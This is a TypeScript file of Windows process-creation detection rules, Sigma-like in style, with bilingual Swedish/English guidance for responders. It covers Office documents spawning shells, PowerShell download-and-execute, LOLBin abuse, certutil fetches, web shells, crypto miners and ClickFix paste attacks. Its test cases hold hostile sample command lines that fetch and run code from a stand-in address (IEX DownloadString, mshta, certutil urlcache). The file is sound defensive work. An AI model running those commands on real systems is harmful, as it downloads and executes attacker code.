/** Rules of programs that should not start one another: documents, scripts, web servers. */
import { type OwnDetection, rule, say, start } from "./detection.ts";

const system32 = "C:\\Windows\\System32\\";
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const word = { ParentImage: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" };

/** The rules. */
export const executionDetections: readonly OwnDetection[] = [
  rule({
    number: 80,
    title: say("Ett dokument startar ett kommando", "A document starts a command"),
    level: "high",
    techniques: ["T1204.002", "T1566.001"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  parent:
    ParentImage|endswith: ['\WINWORD.EXE', '\EXCEL.EXE', '\POWERPNT.EXE', '\OUTLOOK.EXE',
      '\ONENOTE.EXE', '\AcroRd32.exe', '\Acrobat.exe', '\MSPUB.EXE']
  child:
    Image|endswith: ['\cmd.exe', '\powershell.exe', '\pwsh.exe', '\wscript.exe', '\cscript.exe',
      '\mshta.exe', '\rundll32.exe', '\regsvr32.exe', '\certutil.exe', '\bitsadmin.exe']
  condition: parent and child`,
    means: say(
      "Någon öppnade en bilaga som kör kommandon.",
      "Somebody opened an attachment that runs commands.",
    ),
    falsePositives: say(
      "Makron som verksamheten själv gjort.",
      "Macros that a service made itself.",
    ),
    firstAction: say(
      "Skilj datorn från nätet. Ta bort mejlet ur allas brevlådor.",
      "Take the computer off the network. Remove the mail from everybody's mailboxes.",
    ),
    fires: [[start(powershell, "powershell -w hidden iwr http://203.0.113.5/a", word)]],
    rests: [[start("C:\\Windows\\splwow64.exe", "splwow64.exe 8192", word)]],
  }),
  rule({
    number: 81,
    title: say("PowerShell hämtar och kör kod", "PowerShell fetches and runs code"),
    level: "high",
    techniques: ["T1059.001", "T1105"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  tool:
    Image|endswith: ['\powershell.exe', '\pwsh.exe']
  fetch:
    CommandLine|contains: ['DownloadString', 'DownloadFile', 'DownloadData', 'Invoke-WebRequest',
      'iwr ', 'Invoke-RestMethod', 'irm ', 'curl ']
  run:
    CommandLine|contains: ['IEX', 'Invoke-Expression', '| iex', '|iex', 'Start-Process']
  condition: tool and fetch and run`,
    means: say(
      "Kod från internet körs utan att sparas.",
      "Code from the internet is run without being saved.",
    ),
    falsePositives: say("Installationsrader ur handböcker.", "Installation lines from handbooks."),
    firstAction: say(
      "Vart går adressen? Stäng den, och skilj datorn från nätet.",
      "Where does it lead? Shut it out, and take the computer off the network.",
    ),
    fires: [
      [
        start(
          powershell,
          "powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
        ),
      ],
    ],
    rests: [
      [
        start(
          powershell,
          "powershell Invoke-WebRequest https://intranat.example.se -OutFile s.html",
        ),
      ],
    ],
  }),
  rule({
    number: 82,
    title: say("PowerShell körs kodat och dolt", "PowerShell runs encoded and hidden"),
    level: "medium",
    techniques: ["T1059.001", "T1027"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  tool:
    Image|endswith: ['\powershell.exe', '\pwsh.exe']
  encoded:
    CommandLine|re|i: '\s-e(?:nc|c|ncodedcommand|n)?\s+[A-Za-z0-9+/=]{40,}'
  hidden:
    CommandLine|re|i: '\s-w(?:indowstyle|in)?\s+(?:hidden|h|1)\b'
  condition: tool and encoded and hidden`,
    means: say(
      "Någon vill inte att kommandot ska läsas eller synas.",
      "Somebody wants the command neither read nor seen.",
    ),
    falsePositives: say("Hanteringsprogram för datorer.", "Programs that manage computers."),
    firstAction: say(
      "Avkoda texten (Base64, UTF-16) och läs vad som körs.",
      "Decode the text (Base64, UTF-16) and read what is run.",
    ),
    fires: [
      [
        start(
          powershell,
          "powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA",
        ),
      ],
    ],
    rests: [
      [start(powershell, "powershell -NoProfile -File D:\\Drift\\natt.ps1 -WindowStyle Hidden")],
    ],
  }),
  rule({
    number: 83,
    title: say(
      "Ett systemprogram kör kod från nätet",
      "A program of the system runs code from the net",
    ),
    level: "high",
    techniques: ["T1218"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  mshta:
    Image|endswith: '\mshta.exe'
    CommandLine|contains: ['http://', 'https://', 'javascript:', 'vbscript:']
  regsvr32:
    Image|endswith: '\regsvr32.exe'
    CommandLine|contains: ['/i:http', '-i:http', 'scrobj.dll']
  rundll32:
    Image|endswith: '\rundll32.exe'
    CommandLine|contains: ['javascript:', 'http://', 'https://', 'mshtml']
  msiexec:
    Image|endswith: '\msiexec.exe'
    CommandLine|contains: ['/i http', '/i "http', '-i http', '/q http']
  condition: mshta or regsvr32 or rundll32 or msiexec`,
    means: say(
      "Windows egna program används för att komma förbi skydd.",
      "Windows' own programs are used to get past protection.",
    ),
    falsePositives: say("Enstaka gamla verktyg.", "A few old tools."),
    firstAction: say(
      "Stäng adressen. Vad startade programmet?",
      "Shut out the address. What started the program?",
    ),
    fires: [[start(`${system32}mshta.exe`, "mshta.exe https://203.0.113.5/a.hta")]],
    rests: [[start(`${system32}msiexec.exe`, "msiexec /i D:\\Paket\\program.msi /qn")]],
  }),
  rule({
    number: 84,
    title: say("Filer hämtas med systemets verktyg", "Files are fetched by the system's tools"),
    level: "medium",
    techniques: ["T1105"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  certutil:
    Image|endswith: '\certutil.exe'
    CommandLine|contains: ['urlcache', 'verifyctl', '-URL']
  certutil_and:
    CommandLine|contains: 'http'
  bitsadmin:
    Image|endswith: '\bitsadmin.exe'
    CommandLine|contains: ['/transfer', '/addfile']
  condition: (certutil and certutil_and) or bitsadmin`,
    means: say(
      "Verktyg för annat används för att hämta filer.",
      "Tools for other things are used to fetch files.",
    ),
    falsePositives: say("Gamla skript.", "Old scripts."),
    firstAction: say(
      "Vilken fil hämtades? Spara den och sök efter den på andra datorer.",
      "Which file? Keep it and look for it on other computers.",
    ),
    fires: [
      [
        start(
          `${system32}certutil.exe`,
          "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
        ),
      ],
    ],
    rests: [[start(`${system32}certutil.exe`, "certutil -dump cert.cer")]],
  }),
  rule({
    number: 85,
    title: say("En webbserver startar ett kommando", "A web server starts a command"),
    level: "high",
    techniques: ["T1505.003", "T1190"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  parent:
    ParentImage|endswith: ['\w3wp.exe', '\httpd.exe', '\nginx.exe', '\tomcat9.exe', '\tomcat10.exe',
      '\php-cgi.exe', '\UMWorkerProcess.exe', '\ws_tomcatservice.exe', '\sqlservr.exe']
  child:
    Image|endswith: ['\cmd.exe', '\powershell.exe', '\pwsh.exe', '\whoami.exe', '\net.exe',
      '\certutil.exe', '\bitsadmin.exe', '\nltest.exe']
  condition: parent and child`,
    means: say(
      "Någon kör kommandon genom en sida eller databas, ofta efter en sårbarhet.",
      "Somebody runs commands through a page or database, often after a vulnerability.",
    ),
    falsePositives: say(
      "Webbprogram som skriver ut eller konverterar.",
      "Web programs that print or convert.",
    ),
    firstAction: say(
      "Stäng sidan utåt. Sök nya filer i webbmappen. Räkna med att lösenord på servern är tagna.",
      "Shut the page to the outside. Look for new files in the web folder. Take its " +
        "passwords as stolen.",
    ),
    fires: [
      [
        start(`${system32}cmd.exe`, "cmd.exe /c whoami", {
          ParentImage: `${system32}inetsrv\\w3wp.exe`,
        }),
      ],
    ],
    rests: [
      [
        start("C:\\Windows\\Microsoft.NET\\csc.exe", "csc.exe", {
          ParentImage: `${system32}inetsrv\\w3wp.exe`,
        }),
      ],
    ],
  }),
  rule({
    number: 86,
    title: say("Datorn gräver kryptovaluta", "The computer mines currency"),
    level: "high",
    techniques: ["T1496"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  selection:
    CommandLine|contains: ['stratum+tcp://', 'stratum+ssl://', '--donate-level', 'xmrig',
      '--coin monero',
      'nicehash']
  condition: selection`,
    means: say(
      "Någon använder er el och kan göra annat också.",
      "Somebody uses your power, and may do more.",
    ),
    falsePositives: say("Mycket ovanligt.", "Very rare."),
    firstAction: say("Avsluta programmet. Hur kom det in?", "End the program. How did it get in?"),
    fires: [[start("C:\\t\\x.exe", "x.exe -o stratum+tcp://pool.example:3333 -u 4A")]],
    rests: [[start("C:\\t\\x.exe", "x.exe --help")]],
  }),
  rule({
    number: 87,
    title: say("En användare klistrade in ett kommando i Kör", "A user pasted a command into Run"),
    level: "high",
    techniques: ["T1204.004"],
    source: "product: windows, category: process_creation",
    detection: String.raw`
  parent:
    ParentImage|endswith: '\explorer.exe'
  tool:
    Image|endswith: ['\powershell.exe', '\mshta.exe', '\cmd.exe', '\msiexec.exe']
  fetch:
    CommandLine|contains: ['http://', 'https://', '.DownloadString', 'iwr ', 'curl ']
  words:
    CommandLine|contains: ['captcha', 'verif', 'robot', 'human', 'cloudflare', 'iex', 'hidden',
      '-w h', '| powershell', 'mshta http']
  condition: parent and tool and fetch and words`,
    means: say(
      "En falsk kontrollruta på en sida bad användaren klistra in ett kommando (ClickFix).",
      "A false check on a page asked the user to paste a command (ClickFix).",
    ),
    falsePositives: say("Någon som följer en handledning.", "Somebody who follows a guide."),
    firstAction: say(
      "Skilj datorn från nätet. Byt personens lösenord och avsluta sessioner.",
      "Take it off the network. Change the person's password and end sessions.",
    ),
    fires: [
      [
        start(
          `${system32}mshta.exe`,
          "mshta https://203.0.113.5/v.mp4 # I am not a robot - captcha 4821",
        ),
      ],
    ],
    rests: [[start(`${system32}cmd.exe`, "cmd /k ipconfig /all")]],
  }),
];
